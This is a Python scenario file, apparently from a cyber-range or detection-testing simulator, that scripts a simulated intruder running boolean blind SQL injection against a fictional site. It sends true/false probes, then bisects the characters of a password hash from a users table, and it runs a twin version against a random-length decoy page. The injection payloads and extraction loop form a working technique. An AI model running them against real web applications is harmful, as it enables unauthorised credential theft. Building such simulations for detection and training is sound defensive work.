"""Letters are asked for one by one, the page has two sizes; twin: the same against a page of random size."""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder
from range.scenarios.acts import twin as twin_of
from range.visits.agents import PYTHON
from range.visits.browser import Browser
from range.visits.steps import Pause, Visit
from range.visits.world import World

NAME = "sqli_blind"
SITES: tuple[str, ...] = ("kel-melati",)
TWIN_SITES: tuple[str, ...] = ("kel-teratai",)


def intrusion(world: World) -> None:
    """Bisect eighteen letters of a password hash."""
    _, me, dice = intruder(world, NAME, SITES[0], "executed", accepts=("exfiltrated",))
    me.agent = PYTHON
    world.go(SITES[0], world.at(19, 4.4), _ask(me, "/status.php?no=", dice, "boolean answer"))


def _ask(me: Browser, page: str, dice: Random, role: str) -> Visit:
    for text in ("1", "1 AND 1=1", "1 AND 1=2", "1 AND 1=1"):
        yield from me.get(page + text.replace(" ", "%20"), role=role if " " in text else "")
        yield Pause(3)
    for place in range(1, 19):
        low, high = 47, 103
        while high - low > 1:
            middle = (low + high) // 2
            inner = f"(SELECT unicode(substr(sandi,{place},1)) FROM pengguna LIMIT 1)"
            text = f"1 AND {inner}>{middle}"
            reply = yield from me.get(page + text.replace(" ", "%20"), role=role)
            if b"Aduan diterima" in reply.body:
                low = middle
            else:
                high = middle
            yield Pause(dice.uniform(0.2, 0.9))


def twin(world: World) -> None:
    """Plan: the page gives a quotation of random length, whatever is asked."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice), PYTHON)
    world.go(TWIN_SITES[0], world.at(19, 5.2), _ask(me, "/kutipan.php?no=", dice, ""))
